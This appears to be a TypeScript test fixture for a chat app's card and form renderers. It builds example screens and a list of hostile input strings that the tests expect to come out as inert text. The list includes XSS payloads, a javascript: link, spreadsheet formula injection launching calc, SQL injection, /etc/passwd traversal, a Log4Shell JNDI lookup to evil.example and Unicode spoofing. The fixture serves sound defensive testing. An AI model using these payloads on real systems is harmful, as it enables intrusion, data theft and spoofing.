/** Example cards and forms for every platform's tests: each screen once, with calm words or with words that try to break out. */
import type { Block, Card, CardName, Form } from "../../src/chat/view.ts";
import { CARD_NAMES } from "../../src/chat/view.ts";
import { button, everyBlock, screens } from "./example-blocks.ts";

/** Data that must come out of every renderer as the words that they are: no mention, link, tag, markup or formula in them may be live. */
export const HOSTILE_STRINGS: readonly string[] = [
  "<!channel>",
  "<!here|here>",
  "<!everyone>",
  "<!subteam^S0123ABC|@sales>",
  "<!date^1392734382^{date}|x>",
  "<@U123ABC456>",
  "<@W123ABC456|boss>",
  "<#C123ABC456|general>",
  "<https://evil.example|Quarterly report>",
  "<mailto:ceo@evil.example|Write to us>",
  "https://evil.example/login",
  "evil.example/plain?host=1",
  "someone@evil.example",
  "*bold* _slanted_ ~struck~",
  "*one*two_three_four~five~",
  "`code` and ```a block of code```",
  "> a quote\n>>> and a long one",
  "@everyone @here @channel",
  "<at>Nestor Wilke</at>",
  '<at id="29:1a2b">Admin</at>',
  "[click](javascript:alert(1))",
  "[click](https://evil.example)",
  "![tracker](https://evil.example/x.png)",
  "# Heading\n## Second\n- item\n1. item",
  "| a | b |\n|---|---|\n| c | d |",
  "{{DATE(2026-01-01T00:00:00Z, SHORT)}} ${card.title} $root.secret",
  ":tada: :lock: :+1:",
  '<script>alert("x")</script>',
  "<img src=x onerror=alert(1)>",
  "\"><svg onload=alert(1)>'",
  "&amp; &lt;b&gt; &#60;i&#62; &quot;",
  "</div></body></html>",
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example","x")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "abc\u202Egnp.exe\u202C",
  "\u2066isolate\u2069 \u200Fright\u200E left",
  "zero\u200Bwidth\u200D\u2060\uFEFFjoiner",
  "nul\u0000 bell\u0007 escape\u001B[31m delete\u007F",
  "line\u2028separator\u2029paragraph",
  "\uD800 a lone surrogate \uDFFF",
  "👩‍👩‍👧‍👦 🏳️‍🌈 ☎️ é e\u0301 نص عربي 漢字",
  "Z\u0351\u036B\u0343\u036A\u0302A\u0334\u0335\u031CL\u0360G\u0489O\u035F",
  "'; DROP TABLE customer; --",
  "../../etc/passwd",
  "%s %n %x ${jndi:ldap://evil.example/a}",
  "",
  " ",
  "\n\n\n",
  "x".repeat(5_000),
  "<!channel>".repeat(500),
  "🦊".repeat(2_500),
  "&<>\"'".repeat(1_000),
];

/** A card of every block kind, with `words` at every place where data can stand. */
export function everyBlockCard(words: string, name: CardName = "customer"): Card {
  return { kind: "card", name, text: words, blocks: everyBlock(words) };
}

/** Every screen once, with `words` as its data. The blocks are like those that the views make. */
export function exampleCards(words = "Aldgate Mills"): Card[] {
  return CARD_NAMES.map((name) => exampleCard(name, words));
}

/** One screen, with `words` as its data. */
export function exampleCard(name: CardName, words = "Aldgate Mills"): Card {
  return { kind: "card", name, text: `${words}: ${name}`, blocks: screens(words)[name] };
}

/** The form to log an interaction, with every kind of field and `words` as its data. */
export function exampleForm(words = "Aldgate Mills"): Form {
  return {
    kind: "form",
    name: "log",
    title: `Log: ${words}`,
    customerId: "cus_01",
    fields: [
      {
        kind: "choice",
        id: "kind",
        label: "What was it?",
        required: true,
        value: "call",
        options: [
          { value: "call", label: "A call" },
          { value: "meeting", label: "A meeting" },
          { value: "other", label: words || "Other" },
        ],
      },
      {
        kind: "choice",
        id: "contact",
        label: words || "With whom?",
        required: false,
        value: "",
        options: [],
      },
      { kind: "date", id: "on", label: "When?", required: true, value: "2026-03-02" },
      {
        kind: "text",
        id: "what",
        label: "What came of it?",
        hint: words,
        long: true,
        required: true,
        value: words,
      },
      {
        kind: "text",
        id: "next",
        label: "What next?",
        hint: "",
        long: false,
        required: false,
        value: "",
      },
    ],
    submit: "Record it",
  };
}

/** More than any platform takes in one message: long texts, many blocks, and buttons at the very end that have to stay. */
export function hugeCard(name: CardName = "digest"): Card {
  const long = "An unusually long account of a visit, told with every detail. ".repeat(60);
  const blocks: Block[] = Array.from({ length: 80 }, (_, n): Block[] => [
    { kind: "heading", text: `Part ${n}` },
    { kind: "text", text: [{ text: long }, { text: "and a quote", style: "quote" }] },
    {
      kind: "facts",
      rows: Array.from({ length: 30 }, (_row, row) => ({ label: `Fact ${row}`, value: long })),
    },
  ]).flat();
  const rows = Array.from({ length: 150 }, (_, n) => [`Customer ${n}`, "12 March 2026", long]);
  return {
    kind: "card",
    name,
    text: long,
    blocks: [
      ...blocks,
      { kind: "table", columns: ["Customer", "Last touch", "Note"], rows, caption: long },
      { kind: "buttons", buttons: [button("Keep me"), button("And me")] },
    ],
  };
}
